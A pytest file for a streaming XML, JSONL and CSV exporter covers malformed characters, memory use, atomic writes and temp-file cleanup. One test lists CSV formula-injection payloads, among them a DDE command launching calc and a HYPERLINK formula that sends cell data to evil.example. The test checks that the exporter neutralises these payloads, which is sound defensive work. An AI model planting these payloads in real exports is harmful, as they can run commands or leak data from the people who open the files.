"""Streaming XML / JSONL / CSV export: well-formed whatever the text, atomic, constant memory."""

import csv
import json
import os
import sys
import tracemalloc
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree

from tplx_engine.extract.export import (
    FORMATS,
    atomic_path,
    clean_text,
    format_of,
    open_writer,
    xml_name,
)
from tplx_engine.extract.values import FieldValue, PageResult

NASTY = ("ctrl \x00\x01\x08\x0b\x0c\x1f end", "lone \ud800 and \udfff surrogates",
         "cdata ]]> end ]]]]><![CDATA[", "<tag attr='x'>&amp; & < >", "\ufffe\uffff",
         "emoji \U0001F600 and 中文", "tab\tnewline\ncr\r")


def result(i, values, repeated=False, url=None, field="TEXT"):
    return PageResult(f"p{i}.html", url if url is not None else f"http://x/{i}", "extracted",
                      template_id="t1", distance=0.1, score=0.95,
                      fields=(FieldValue(field, "E1:0", repeated, tuple(values), ()),))


@pytest.mark.parametrize("text", NASTY)
def test_xml_is_well_formed_whatever_the_text(tmp_path, text):
    out = tmp_path / "out.xml"
    with open_writer(out, "xml") as writer:
        writer.write(result(0, [text], url=f"http://x/?q={text}\"'"))
        writer.write(result(1, [text, text], repeated=True))
    root = etree.parse(str(out)).getroot()  # raises on malformed XML
    assert root.tag == "documents" and root.get("format") == "tplx-extract"
    assert root.get("version") == "1"
    docs = root.findall("document")
    assert len(docs) == 2 and len(docs[1].findall("TEXT")) == 2
    assert docs[0].find("TEXT").text == clean_text(text)
    assert docs[0].get("name") == clean_text(f"http://x/?q={text}\"'")


def test_xml_document_shape_and_missing_values(tmp_path):
    out = tmp_path / "out.xml"
    empty = PageResult("p.html", "http://x/p", "extracted", template_id="t",
                       fields=(FieldValue("SUBTITLE", "E1:2", False, (), ()),
                               FieldValue("TITLE", "E1:1", False, ("A title",), ())))
    with open_writer(out, "xml") as writer:
        writer.write(empty)
    doc = etree.parse(str(out)).getroot().find("document")
    assert doc.get("name") == "http://x/p" and doc.get("page") == "p.html"
    assert doc.find("SUBTITLE") is None and doc.find("TITLE").text == "A title"
    assert doc.get("fetched") is None  # a page file: no fetch date


def test_a_web_archive_page_carries_its_fetch_date(tmp_path):
    archived = replace(result(0, ["x"]), fetched="2024-05-01T10:00:00Z")
    with open_writer(tmp_path / "out.xml", "xml") as writer:
        writer.write(archived)
    doc = etree.parse(str(tmp_path / "out.xml")).getroot().find("document")
    assert doc.get("fetched") == "2024-05-01T10:00:00Z"
    with open_writer(tmp_path / "out.jsonl", "jsonl") as writer:
        writer.write(archived)
        writer.write(result(1, ["y"]))
    first, second = map(json.loads, (tmp_path / "out.jsonl").read_text("utf-8").splitlines())
    assert first["fetched"] == "2024-05-01T10:00:00Z" and "fetched" not in second


def test_huge_text_streams_through(tmp_path):
    big = "x" * 5_000_000 + "]]>" + "\x00" + "y" * 1000
    out = tmp_path / "out.xml"
    with open_writer(out, "xml") as writer:
        writer.write(result(0, [big]))
    text = etree.parse(str(out)).getroot().find("document/TEXT").text
    assert len(text) == len(big) and text.endswith("y" * 1000)


def test_memory_does_not_grow_with_the_number_of_pages(tmp_path):
    value = "z" * 10_000
    tracemalloc.start()
    try:
        for fmt in FORMATS:
            with open_writer(tmp_path / f"out.{fmt}", fmt, ["TEXT"]) as writer:
                for i in range(3000):  # 30 MB of text per format
                    writer.write(result(i, [value]))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5_000_000


def test_jsonl_and_csv_hold_every_text(tmp_path):
    rows = [result(i, [t]) for i, t in enumerate(NASTY)]
    rows.append(result(99, ["a", "b, \"c\""], repeated=True))
    with open_writer(tmp_path / "o.jsonl", "jsonl") as writer:
        for r in rows:
            writer.write(r)
    with open_writer(tmp_path / "o.csv", "csv", ["TEXT", "OTHER"]) as writer:
        for r in rows:
            writer.write(r)
    lines = (tmp_path / "o.jsonl").read_text("utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == len(rows)
    assert records[2]["fields"]["TEXT"] == NASTY[2] and records[1]["fields"]["TEXT"] == (
        "lone \ufffd and \ufffd surrogates")
    assert records[-1]["fields"]["TEXT"] == ["a", "b, \"c\""]
    with open(tmp_path / "o.csv", encoding="utf-8", newline="") as fh:
        table = list(csv.reader(fh))
    assert table[0] == ["page", "url", "template", "score", "TEXT", "OTHER"]
    assert len(table) == len(rows) + 1
    assert table[3][4] == NASTY[2] and table[7][4] == "tab\tnewline\ncr\r"
    assert json.loads(table[-1][4]) == ["a", "b, \"c\""] and table[-1][5] == ""


FORMULAS = ("=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3", "@SUM(A1)",
            '=HYPERLINK("http://evil.example/?"&A1, "click")', "\t=1+1", "\r=1+1")


def test_csv_cells_never_start_a_formula(tmp_path):
    """OWASP's rule: a cell starting with = + - @ tab or CR gets a ' in front; every other
    character, and the XML and JSONL values, stay as they are."""
    with open_writer(tmp_path / "o.csv", "csv", ["TEXT"]) as writer:
        for i, text in enumerate(FORMULAS):
            writer.write(result(i, [text], url=text))
        writer.write(result(99, ["plain = text", "'quoted"], url="http://x/=", repeated=True))
        writer.write(result(100, ["'=already quoted"]))
    with open(tmp_path / "o.csv", encoding="utf-8", newline="") as fh:
        table = list(csv.reader(fh))[1:]
    for row, text in zip(table, FORMULAS):
        assert row[1] == row[4] == "'" + text
    assert table[-2][1] == "http://x/=" and json.loads(table[-2][4]) == ["plain = text",
                                                                          "'quoted"]
    assert table[-1][4] == "'=already quoted"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table
                   for cell in row)
    with open_writer(tmp_path / "o.jsonl", "jsonl") as writer:
        writer.write(result(0, [FORMULAS[0]]))
    assert json.loads((tmp_path / "o.jsonl").read_text("utf-8"))["fields"]["TEXT"] == FORMULAS[0]


def test_writes_are_atomic(tmp_path):
    out = tmp_path / "out.xml"
    out.write_text("previous export", "utf-8")
    with pytest.raises(RuntimeError), open_writer(out, "xml") as writer:
        writer.write(result(0, ["partial"]))
        raise RuntimeError("cancelled half way")
    assert out.read_text("utf-8") == "previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["out.xml"]
    with open_writer(out, "xml") as writer:
        writer.write(result(0, ["done"]))
    assert etree.parse(str(out)).getroot().find("document/TEXT").text == "done"


def _dead_pid() -> int:
    """A pid no process has now (the highest pids are the least likely to be in use)."""
    pid = 4_194_000
    while True:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return pid
        except PermissionError:
            pass
        pid -= 1


@pytest.mark.skipif(sys.platform == "win32", reason="tells dead processes by pid (POSIX)")
def test_temporary_files_of_killed_exports_are_removed_by_the_next(tmp_path):
    out = tmp_path / "out.csv"
    killed = tmp_path / f".out.csv.{_dead_pid()}.k3x9.tmp"  # what kill -9 mid-export leaves
    running = tmp_path / f".out.csv.{os.getpid()}.a1b2.tmp"  # an export still under way
    other = tmp_path / f".other.csv.{_dead_pid()}.k3x9.tmp"  # another target's
    for path in (killed, running, other):
        path.write_text("partial", "utf-8")
    with open_writer(out, "csv", ["TEXT"]) as writer:
        writer.write(result(0, ["done"]))
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["out.csv", running.name, other.name])
    with pytest.raises(RuntimeError), atomic_path(tmp_path / "page.jsonl") as tmp:
        Path(tmp).write_text("half", "utf-8")
        raise RuntimeError("failed half way")
    assert not (tmp_path / "page.jsonl").exists() and not list(tmp_path.glob(".page*"))


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file modes")
@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_exports_get_the_mode_the_users_umask_gives(tmp_path, umask, mode):
    previous = os.umask(umask)
    try:
        for fmt in FORMATS:
            with open_writer(tmp_path / f"o.{fmt}", fmt, ["TEXT"]) as writer:
                writer.write(result(0, ["x"]))
            assert (tmp_path / f"o.{fmt}").stat().st_mode & 0o777 == mode
        with atomic_path(tmp_path / "c.jsonl") as tmp:
            Path(tmp).write_text("{}", "utf-8")
        assert (tmp_path / "c.jsonl").stat().st_mode & 0o777 == mode
    finally:
        os.umask(previous)


def test_names_and_formats():
    assert xml_name("TITLE") == "TITLE" and xml_name("1 bad name") == "_1_bad_name"
    assert xml_name("出版社") == "出版社" and xml_name("a²b") == "a_b"
    assert format_of("a.JSONL") == "jsonl" and format_of("a.txt") == "xml"
    with pytest.raises(ValueError, match="unknown export format"):
        open_writer("x", "pdf")
